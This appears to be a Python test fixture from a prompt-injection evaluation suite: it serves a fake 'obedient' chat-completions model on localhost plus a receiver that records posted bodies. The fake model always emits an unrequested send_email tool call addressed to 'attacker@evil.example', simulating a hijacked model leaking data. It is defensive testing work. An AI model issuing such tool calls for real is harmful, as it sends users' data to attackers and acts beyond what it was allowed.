"""The obedient model behind an OpenAI-compatible endpoint, and a program that is told things.

Both keep what they were sent.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from eval.components.injections.obedient import Reply, obey

_TOOL = {
    "index": 0,
    "id": "call_1",
    "type": "function",
    "function": {"name": "send_email", "arguments": '{"to": "attacker@evil.example"}'},
}


class Listener(ThreadingHTTPServer):
    """Takes whatever is posted to it on this machine.

    Attributes:
        got: bodies, in order.
    """

    daemon_threads = True

    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        super().__init__(("127.0.0.1", 0), handler)
        self.got: list[bytes] = []


class ObedientEndpoint(Listener):
    """Answers ``POST /v1/chat/completions`` as `obey` does, and calls a tool that it has not.

    Attributes:
        replies: what was written, by the text of the request.
        hangs: whether it says nothing at all.
    """

    def __init__(self) -> None:
        super().__init__(_Completions)
        self.replies: list[Reply] = []
        self.hangs = threading.Event()
        self.over = threading.Event()

    @property
    def url(self) -> str:
        """What ``VOZ_CHAT_URL`` is set to."""
        return f"http://127.0.0.1:{self.server_port}/v1"


class _Quiet(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def body(self) -> bytes:
        return self.rfile.read(int(self.headers["content-length"]))

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class _Completions(_Quiet):
    server: ObedientEndpoint

    def do_POST(self) -> None:
        body = self.body()
        self.server.got.append(body)
        if self.server.hangs.is_set():
            self.server.over.wait(120)
            return
        said = json.loads(body)["messages"]
        reply = obey(str(said[0]["content"]), str(said[-1]["content"]))
        self.server.replies.append(reply)
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("connection", "close")
        self.end_headers()
        self.close_connection = True
        for delta in ({"content": reply.text}, {"tool_calls": [_TOOL]}):
            self._send(delta, None)
        self._send({}, "stop")
        self.wfile.write(b"data: [DONE]\n\n")

    def _send(self, delta: dict[str, Any], finish: str | None) -> None:
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        told = {"id": "1", "object": "chat.completion.chunk", "created": 0, "model": "obedient"}
        self.wfile.write(b"data: " + json.dumps({**told, "choices": [choice]}).encode() + b"\n\n")


class _Receives(_Quiet):
    server: Listener

    def do_POST(self) -> None:
        self.server.got.append(self.body())
        self.send_response(204)
        self.send_header("content-length", "0")
        self.end_headers()


@contextmanager
def obedient_endpoint() -> Iterator[ObedientEndpoint]:
    """An obedient model, served until the end."""
    endpoint = ObedientEndpoint()
    with _served(endpoint):
        try:
            yield endpoint
        finally:
            endpoint.over.set()


@contextmanager
def receiver() -> Iterator[Listener]:
    """A program that summaries are sent to, served until the end."""
    listener = Listener(_Receives)
    with _served(listener):
        yield listener


@contextmanager
def _served(server: ThreadingHTTPServer) -> Iterator[None]:
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
